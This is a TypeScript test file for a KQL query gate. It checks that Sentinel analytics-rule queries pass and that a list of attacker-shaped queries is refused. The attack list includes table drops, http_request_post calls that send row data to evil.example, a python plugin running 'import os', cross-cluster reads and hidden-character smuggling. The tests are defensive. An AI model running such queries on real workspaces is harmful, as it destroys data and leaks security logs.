import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { judge } from '../../../src/relay/kql/judge.ts';
import { loadKqlParser, MAX_NESTING } from '../../../src/relay/kql/parser.ts';
import { MAX_QUERY_LENGTH } from '../../../src/relay/kql/text-rules.ts';
import { propertySeed } from '../../support/seed.ts';
import { passQuery } from '../support/gate.ts';

const gate = (query: string, allowWorkspaces: readonly string[] = []) =>
  passQuery(query, { allowWorkspaces, maxRows: 11 });

async function refusal(query: string, allowWorkspaces: readonly string[] = []): Promise<string> {
  const verdict = await gate(query, allowWorkspaces);
  return verdict.passes ? `passed as ${verdict.query}` : verdict.rule;
}

/** Queries as analytics rules of Content Hub solutions write them. */
const rules: Readonly<Record<string, string>> = {
  'a scheduled alert with query_now': `// The query_now parameter represents the time (in UTC) at which the scheduled analytics rule ran to produce this alert.
set query_now = datetime(2026-01-10T08:36:02.9886229Z);
SigninLogs
| where ResultType == 0 and TimeGenerated > ago(1h)
| extend City = tostring(LocationDetails.city), State = tostring(parse_json(tostring(LocationDetails.geoCoordinates)).latitude)
| summarize StartTime = min(TimeGenerated), Cities = make_set(City, 100), dcount(IPAddress) by UserPrincipalName
| where array_length(Cities) > 1`,
  'let, functions, join and materialize': `let timeframe = 1d;
let threshold = toscalar(SecurityEvent | where TimeGenerated > ago(14d) | summarize count() / 14);
let failed = (table_name: string) {
  table(table_name)
  | where ResultType in ("50126", "50053") and isnotempty(UserPrincipalName)
};
let attempts = materialize(union isfuzzy=true failed("SigninLogs"), failed("AADNonInteractiveUserSignInLogs"));
attempts
| join kind=inner (SigninLogs | where ResultType == "0" | project UserPrincipalName, SuccessIP = IPAddress) on UserPrincipalName
| lookup kind=leftouter (_GetWatchlist('VIP') | project SearchKey, Name) on $left.UserPrincipalName == $right.SearchKey
| where IPAddress !in~ (externalAddresses) or ipv4_is_private(IPAddress) == false
| top 100 by TimeGenerated desc`,
  'ASIM functions, parse and mv-expand': `_Im_Dns(starttime=ago(1h), responsecodename='NXDOMAIN')
| parse-where EventMessage with * "user=" User:string " " *
| mv-expand Answer = todynamic(DnsResponseName) to typeof(string) limit 50
| mv-apply Part = split(DnsQuery, ".") on (summarize Longest = max(strlen(Part)))
| extend Entropy = series_decompose_anomalies(dynamic([1, 2, 3]), 1.5)
| project-away Part*
| evaluate bag_unpack(AdditionalFields, 'x_')
| invoke_like = 1`.replace('\n| invoke_like = 1', ''),
  'externaldata as a word in a string or a column': `Syslog | where SyslogMessage has "externaldata(" or SyslogMessage contains ".drop table" | project cluster, database, workspace`,
  'time series and render': `CommonSecurityLog | make-series Total = count() default = 0 on TimeGenerated from ago(7d) to now() step 1h by DeviceVendor | render timechart`,
  'its own function, invoked': `let worst = (T:(Severity:string)) { T | where Severity == "High" }; SecurityAlert | invoke worst()`,
  'a saved function, called and invoked':
    'SyslogEvents() | invoke Somebodys_Function2(1h) | extend a = Weight(b) | project a, b',
  'query parameters that all have a value':
    'declare query_parameters(who:string = "x", days:int = 7); T | where b == who',
  'names that need brackets': "T | extend ['a b'] = 1, [\"c-d\"] = toscalar(U | summarize max(['e f']))",
  'search over everything': `search "contoso.com" | take 5`,
  'datatable and scan': `datatable(Ts: timespan, Event: string) [0m, "A", 1m, "B"] | sort by Ts asc | scan declare (m: string) with (step s1: true => m = Event;)`,
};

describe('KQL gate, on queries of analytics rules', () => {
  it.each(Object.entries(rules))('lets %s pass', async (_, query) => {
    expect(await gate(query)).toMatchObject({ passes: true });
  });

  it('keeps query_now and everything else as it was, and ends it with the row limit', async () => {
    const query = 'set query_now = datetime(2026-01-10T08:36:02.9886229Z);\nSigninLogs\n| where ResultType == 0';
    expect(await gate(query)).toEqual({ passes: true, query: `${query}\n| take 11` });
  });

  it.each([
    ['a comment at the end', 'T | where a == 1 // | take 1', 'T | where a == 1\n| take 11'],
    ['a semicolon at the end', 'let x = 1; T | where a == x;', 'let x = 1; T | where a == x\n| take 11'],
    ['both, and white space', 'T // one\n;  // two\n\n', 'T\n| take 11'],
    ['Windows line ends', 'T\r\n| where a == 1\r\n', 'T\n| where a == 1\n| take 11'],
    ['a byte order mark', '\uFEFFT', 'T\n| take 11'],
    [
      'a render',
      'T | summarize count() by bin(t, 1h) | render timechart with (title="a")',
      'T | summarize count() by bin(t, 1h)\n| take 11',
    ],
    ['a string that looks like a comment', 'T | where u == "http://x//y"', 'T | where u == "http://x//y"\n| take 11'],
  ])('places the row limit where it counts: %s', async (_, query, limited) => {
    expect(await gate(query)).toEqual({ passes: true, query: limited });
  });

  it('lets a query read the workspaces it may', async () => {
    const query =
      'union workspace("Partner").SecurityEvent, workspace(\'C8C99641-985d-4e4e-8e91-fb3466cd0e5b\').Syslog';
    expect(await gate(query, ['partner', 'c8c99641-985d-4e4e-8e91-fb3466cd0e5b'])).toMatchObject({ passes: true });
    expect(await refusal(query, ['partner'])).toBe('workspaces');
  });
});

/** What an attacker who can shape an alert might try, and the rule that stops it. */
const attacks: readonly [rule: string, query: string][] = [
  // Management commands, open and hidden.
  ['only-queries', '.drop table SecurityEvent'],
  ['only-queries', '  // harmless\n.set-or-append T <| U'],
  ['only-queries', '.show tables | project TableName'],
  ['known-syntax', '#connect cluster("evil").database("x")\nT'],
  ['readable', 'T; .drop table SecurityEvent'],
  ['readable', 'T // comment\r.drop table SecurityEvent'],
  ['readable', 'let x = .show tables; x'],
  ['readable', 'union (.show tables), T'],
  // More than one result.
  ['one-result', 'SecurityEvent | take 1; SigninLogs'],
  ['one-result', 'let a = 1;'],
  ['one-result', ''],
  ['one-result', '// nothing but a comment'],
  ['one-result', 'T; let a = 1;'],
  ['known-syntax', 'T | fork (take 1) (take 2)'],
  ['known-syntax', 'T | facet by a with (take 1)'],
  // Files and servers.
  ['known-syntax', 'externaldata(a:string)[@"https://evil.example/x.csv"] with(format="csv")'],
  ['known-syntax', 'T | where a in (externaldata(a:string)[@"https://evil.example/x.csv"])'],
  ['known-syntax', 'let e = () { external_data(a:string)["https://evil.example/x"] }; T | join (e()) on a'],
  ['reach', 'external_table("Blob") | take 1'],
  ['reach', 'T | union (["external_table"]("Blob"))'],
  ['plugins', 'evaluate http_request("https://evil.example")'],
  ['plugins', 'T | evaluate http_request_post("https://evil.example", dynamic({}), tostring(pack_all()))'],
  ['plugins', "T | evaluate hint.distribution=per_node python(typeof(*), 'import os')"],
  ['plugins', 'let f = (q:string) { evaluate sql_request("Server=evil", q) }; f("select 1")'],
  ['plugins', "T | evaluate ['http_request']('https://evil.example')"],
  ['plugins', 'T | evaluate some_plugin_of_tomorrow()'],
  ['plugins', 'evaluate execute_show_command("https://evil.kusto.windows.net", ".show databases")'],
  // Other clusters, databases, workspaces.
  ['reach', 'cluster("evil.westeurope").database("x").T'],
  ['reach', 'union cluster("evil").database("x").T, SecurityEvent'],
  ['reach', "['cluster']('evil').database('x').T"],
  ['reach', 'T | where a in ((database("Other").U | project a))'],
  ['reach', 'let cluster = (x:string) { T }; cluster("evil")'],
  ['reach', 'adx("https://evil.kusto.windows.net/x").T'],
  ['reach', 'arg("").Resources | project id'],
  ['reach', 'resource("/subscriptions/x").T'],
  ['reach', 'app("other").requests'],
  ['reach', 'T | extend x = toscalar(CLUSTER("evil").database("x").T | count)'],
  ['workspaces', 'workspace("Other").SecurityEvent'],
  ['workspaces', 'union isfuzzy=true (workspace("Other").SecurityEvent | where a == 1), SecurityEvent'],
  ['workspaces', 'union (union (union T, (union workspace("Other").U)))'],
  ['workspaces', 'let w = "Other"; workspace(w).SecurityEvent'],
  ['workspaces', 'let f = (w:string) { workspace(w).SecurityEvent }; f("Other")'],
  ['workspaces', 'workspace(strcat("Oth", "er")).SecurityEvent'],
  ['workspaces', "['workspace']('Other').SecurityEvent"],
  ['workspaces', 'find in (workspace("Other").SecurityEvent) where a == 1'],
  ['workspaces', 'search in (workspace("Other").SecurityEvent) "x"'],
  ['workspaces', 'workspace("\\x50artner").SecurityEvent'],
  ['known-syntax', 'macro-expand entity_group [cluster("a").database("b")] as X (X.T)'],
  ['known-syntax', 'alias database Other = cluster("evil").database("x"); database("Other").T'],
  ['known-syntax', 'declare pattern app = (a:string)[b:string] { ("x").["y"] = { T }; }; app("x").y'],
  ['known-syntax', 'restrict access to (T); T'],
  ['query-parameters', 'declare query_parameters(a:string); T | where b == a'],
  ['query-parameters', 'declare query_parameters(a:string = "x", b:long); T | where c == a'],
  // Functions under a name.
  ['reach', 'T | invoke cluster("evil").database("x").f()'],
  ['reach', 'let f = cluster; f("evil").database("x").T'],
  ['reach', 'let f = (database); f("x").T'],
  ['reach', 'let d = database("x"); d.T'],
  ['reach', 'database.T'],
  ['reach', "['Some\\u0062odysFunction']()"],
  // Options and parameters.
  ['options', 'set notruncation; T'],
  ['options', 'set norequesttimeout = true; T'],
  ['options', 'set query_now = datetime(2026-01-10); set servertimeout = 1h; T'],
  ['options', 'set query_results_cache_max_age = 1h; T'],
  ['parameters', 'T | join hint.remote=right (U) on a'],
  ['parameters', 'union __crossDB=true *'],
  // Texts that two readers may read differently.
  ['hidden-characters', 'T // comment\u2028.drop table U'],
  ['hidden-characters', 'T // comment\u0085| evaluate http_request("x")'],
  ['hidden-characters', 'T | where a == "\u202Etxt.exe"'],
  ['hidden-characters', 'T\u0000| take 1'],
  ['hidden-characters', 'external\u200Bdata(a:string)["https://evil.example"]'],
  ['hidden-characters', 'T | where a == "\uD800"'],
  // Sizes.
  ['size', `T | where a in (${Array.from({ length: 12_500 }, (_, n) => `"${n}"`).join(', ')})`],
  ['size', `T // ${'x'.repeat(100_000)}`],
  ['nesting', `print ${'('.repeat(20_000)}1${')'.repeat(20_000)}`],
  ['nesting', `T | where a == ${'toscalar(T | where b == '.repeat(101)}1${')'.repeat(101)}`],
  ['nesting', `print dynamic(${'['.repeat(101)}${']'.repeat(101)})`],
  ['nesting', `T | extend a = 1${' + 1'.repeat(1_000)}`],
  ['nesting', `T${' | where a == 1'.repeat(600)}`],
  // Cut off, or wrong.
  ['readable', 'SigninLogs | where ResultType == 0 | extend City = tostring(LocationDet'],
  ['readable', 'SigninLogs | where UserPrincipalName == "j.mue'],
  ['readable', 'SigninLogs |'],
];

describe('KQL gate, on attacks', () => {
  it.each(attacks.map(([rule, query]) => ({ rule, query, shown: query.slice(0, 90) })))(
    'stops $shown by the rule "$rule"',
    async ({ rule, query }) => {
      expect(await refusal(query)).toBe(rule);
    },
  );

  it('says in words what it refused', async () => {
    const verdict = await gate('T | join (externaldata(a:string)["https://evil.example"]) on a');
    expect(verdict).toEqual({
      passes: false,
      rule: 'known-syntax',
      reason: 'uses external data, which is not allowed',
    });
  });

  it('reads queries up to its limits without harm', async () => {
    // Here rather than in the thread, where a busy machine would count as a slow query.
    const parser = await loadKqlParser();
    const judged = (query: string) => judge(query, parser, { allowWorkspaces: [], maxRows: 11 });
    const nested = `print ${'('.repeat(MAX_NESTING)}1${')'.repeat(MAX_NESTING)}`;
    expect(judged(nested)).toMatchObject({ passes: true });
    const operators = `T${' | where a == 1'.repeat(400)}`;
    expect(judged(operators)).toMatchObject({ passes: true });
    const list = `T | where a in (${Array.from({ length: 8_000 }, (_, n) => n).join(',')})`;
    expect(list.length).toBeLessThan(MAX_QUERY_LENGTH);
    expect(judged(list)).toMatchObject({ passes: true });
    const bracketsInTexts = `T | where a == "${'(['.repeat(1_000)}"`;
    expect(judged(bracketsInTexts)).toMatchObject({ passes: true });
  });
});

describe('KQL gate, on anything', () => {
  const pieces = ['T', 'U', '|', 'where', 'a == 1', 'take 5', ';', '//', '\n', 'let x =', '(', ')', '{', '}', '"', "'"];
  const more = [
    'union',
    ',',
    'workspace("o")',
    '.V',
    'cluster',
    'evaluate',
    'f(',
    'set query_now = now()',
    '.show',
    '🚨',
  ];
  const soup = fc.array(fc.constantFrom(...pieces, ...more), { maxLength: 14 }).map((words) => words.join(' '));

  it('gives back only what it would let pass again, ended by its own limit', async () => {
    const parse = await loadKqlParser();
    await fc.assert(
      fc.asyncProperty(fc.oneof(soup, fc.string({ maxLength: 40 })), async (query) => {
        const verdict = await gate(query);
        if (!verdict.passes) return;
        expect(verdict.query.endsWith('\n| take 11')).toBe(true);
        expect(parse(verdict.query)).toMatchObject({ kind: 'Query', syntaxError: undefined });
        expect(await gate(verdict.query)).toMatchObject({ passes: true });
      }),
      { seed: propertySeed('KQL gate', 5), numRuns: 400 },
    );
  });
});
